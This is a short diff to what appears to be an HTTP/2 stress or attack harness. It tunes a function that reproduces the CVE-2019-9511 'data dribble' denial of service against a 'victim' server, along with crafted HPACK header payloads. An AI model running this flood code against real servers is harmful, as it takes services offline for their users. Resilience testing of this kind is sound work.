@@ -17,7 +17,7 @@ _LARGEST_INCREMENT: Final = http2.window_update(0, http2.WINDOW_NBYTES)[http2.HE
 #: A literal field that goes into the table, of nearly the size of all of it; and its index.
 _LARGE_FIELD: Final = b"\x40\x01a\x7f" + b"\xa1\x1e" + b"v" * 4000
 _ITS_INDEX: Final = b"\xbe"
-_SMALL_CALL: Final = framed(message(100))
+_SMALL_CALL: Final = framed(message(1000))
 #: Of the 64 KiB that a head may have.
 _REPEATS: Final = 15
 #: 40,000 times the letter with one of the shortest codes, and two with the longest.
@@ -99,8 +99,8 @@ def windows(victim: Victim) -> None:
 
 
 def dribble(victim: Victim) -> None:
-    """Answers on thousands of streams that are taken a byte at a time (CVE-2019-9511)."""
-    streams = range(1, 4000, 2)
+    """Answers on hundreds of streams that are taken a byte at a time (CVE-2019-9511)."""
+    streams = range(1, 400, 2)
     calls = b"".join(begin(one, _BLOCK) + data(one, _SMALL_CALL, end=True) for one in streams)
     grow = b"".join(http2.window_update(one, 1) for one in streams)
     _flood(partial(repeat, grow), victim, http2.settings_frame({http2.INITIAL_WINDOW: 0}) + calls)
